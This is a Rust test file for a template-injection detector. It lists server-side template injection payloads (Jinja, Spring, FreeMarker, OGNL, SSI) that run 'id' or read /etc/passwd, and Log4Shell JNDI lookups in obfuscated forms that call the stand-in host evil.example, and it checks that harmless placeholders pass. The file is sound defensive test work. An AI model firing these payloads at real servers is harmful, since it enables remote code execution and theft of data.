//! The template detector on attacks, on what looks like one and is none, and on any bytes.

use super::Template;
use crate::{
    detectors::code::trial::{hit, never_panics, passes, refuses},
    leaf::{Field, Where},
};

#[test]
fn finds_expressions_that_compute() {
    refuses(
        &Template,
        &[
            "{{7*7}}",
            "{{ 7 * '7' }}",
            "{{=9*9}}",
            "{{{3*3}}}",
            "${7*7}",
            "#{ 7 * 7 }",
            "*{7*7}",
            "%{128*128}",
            "@{40+2}",
            "a{{12345*2}}b",
            "{41*1337}",
            "<%= 7*7 %>",
            "${{7*7}}",
            "[[${7*7}]]",
            "~{7*7}",
        ],
    );
}

#[test]
fn finds_expressions_that_reach_for_objects() {
    refuses(
        &Template,
        &[
            "{{config}}",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request['application']['__globals__']}}",
            "{{self.__init__.__globals__.__builtins__}}",
            "{% for c in ().__class__.__base__.__subclasses__() %}{% endfor %}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "{{['id']|filter('system')}}",
            "{{'a'.toUpperCase()}}",
            "{{constructor.constructor('x')()}}",
            "{{lipsum.__globals__['os'].popen('id').read()}}",
            "{{cycler.__init__}}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "${''.getClass().forName('java.lang.Runtime')}",
            "#{session.getClass().getClassLoader()}",
            "%{(#a=@java.lang.Runtime@getRuntime())}",
            "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
            "(#_memberAccess['allowStaticMethodAccess']=true)",
            "T(java.lang.Runtime).getRuntime()",
            "class.module.classLoader.resources",
            "<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}",
            "#set($x=7*7)$x",
            "#set ($e = $class.inspect('java.lang.Runtime'))",
            "{$smarty.version}",
            "{system('id')}",
            "{if system('id')}{/if}",
            "{php}phpinfo();{/php}{system('id')}",
            "<%= File.open('/etc/passwd').read %>",
            "<% out.println(request.getParameter(\"x\")); %>",
            "<%@ page import=\"java.io.*\" %>",
            "<!--#exec cmd=\"id\"-->",
            "@(1+2)",
            "<!--#echo var=\"X\" -->",
            "${base64:JHtqbmRpOng6Ly94fQ==}",
            "<%= `id` %>",
            "<!-- #include virtual=\"/x\" -->",
            "<esi:include src=http://evil.example/>",
            "${@print(1)}",
            "{{system('id')}}",
            "{{ someText.toUpperCase() }}",
        ],
    );
}

#[test]
fn resolves_nested_lookups() {
    refuses(
        &Template,
        &[
            "${jndi:ldap://evil.example/a}",
            "${jndi:dns://evil.example",
            "${${lower:j}${lower:n}${lower:d}i:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "${${env:NOTHING:-j}ndi${env:NOTHING:-:}ldap://evil.example}",
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example}",
            "${jnd${upper:ı}:ldap://evil.example}",
            "${${lower:${lower:jndi}}:ldap://evil.example}",
            "$\\{jndi:ldap://evil.example\\}",
            "x${jndi${x:-:}ldap://evil.example",
            "${script:javascript:java.lang.Runtime.getRuntime()}",
            "${url:UTF-8:http://evil.example}",
        ],
    );
}

#[test]
fn placeholders_are_no_attack() {
    let values = [
        "{{name}}",
        "Hello {{ user.first_name }}, your order {{order.id}} has shipped",
        "{{#is_alert}}CPU is high on {{host.name}}{{/is_alert}} @slack-ops {{value}}",
        "{{ .Values.image.repository }}:{{ .Values.image.tag | default \"latest\" }}",
        "${HOME}/bin:${PATH}",
        "${VAR:-default}",
        "${{ github.ref }} ${{ secrets.TOKEN }}",
        "{% if user.active %}yes{% endif %}",
        "{% for item in items %}{{ item.title }}{% endfor %}",
        "#{name} is %{count} of ${total}",
        "item-%{$sourceElem.id}",
        "${pageSize?.value - 1}",
        "${20}",
        "{\"a\": {\"b\": [1, 2, 3]}}",
        "body { color: red } .a{margin:0}",
        "a{2,3}b{1}",
        "{1,2,3}",
        "set #include in the C file, #define X",
        "# Heading (#2)",
        "\\frac{1}{2} + x^{2*3}",
        "100% {sure}",
        "{{CAT}} [[link]]",
        "{2026-01-02}",
        "fmt!(\"{} {:?} {0}\")",
        "user@example.com (home)",
        "<a href='#'>x</a> <b>50% off</b>",
    ];
    for field in
        [Field::Unknown, Field::Token, Field::Prose, Field::Markup, Field::Code, Field::Query, Field::Url]
    {
        passes(&Template, field, &values);
    }
}

#[test]
fn templates_pass_in_fields_for_templates() {
    passes(
        &Template,
        Field::Code,
        &[
            "<% users.each do |user| %><%= link_to user.name, user_path(user) %><% end %>",
            "{{ range .Items }}{{ printf \"%s\" .Name }}{{ end }}",
            "#set($page = $content.title)\n<h1>$page</h1>",
            "${(() => {const facts = data.body\nreturn facts})()}",
            "<#if user??>Hello ${user.name?html}</#if>",
            "{{ items | join(', ') }} {{ 'a' | upper }}",
        ],
    );
}

#[test]
fn talk_about_templates_passes_in_prose() {
    passes(
        &Template,
        Field::Prose,
        &[
            "In Jinja the expression {{ 7*7 }} is evaluated when the page is rendered, but how do I write the braces \
           themselves so that the reader sees them in the documentation?",
        ],
    );
}

#[test]
fn says_where_and_what() {
    let text = b"id=a${${lower:j}ndi:ldap://x}b";
    let hit = hit(&Template, Where::Header, Field::UserAgent, text).unwrap();
    assert_eq!((hit.rule, hit.score), ("jndi_lookup", 10));
    assert_eq!(&text[hit.span], b"${${lower:j}ndi:ldap://x}");
}

const FRAGMENTS: &[&str] = &[
    "{",
    "}",
    "{{",
    "}}",
    "${",
    "#{",
    "%{",
    "*{",
    "@{",
    "{%",
    "%}",
    "<%",
    "%>",
    "<%=",
    "<#",
    "[#",
    "assign ",
    "7",
    "*",
    "'",
    "\"",
    ".",
    "(",
    ")",
    "__class__",
    "config",
    "lower:",
    "jndi:",
    "::-",
    ":-",
    "upper:ı",
    "$\\{",
    "#set",
    "($",
    "<!--#",
    "exec",
    "<esi:",
    "t(java.",
    "@(",
    "|",
    "$smarty.",
    "system(",
    "?new()",
    "\\",
    "é",
    "\u{0}",
    "~",
    "if ",
    "#",
];

#[test]
fn no_bytes_make_it_panic() {
    never_panics(&Template, FRAGMENTS);
}
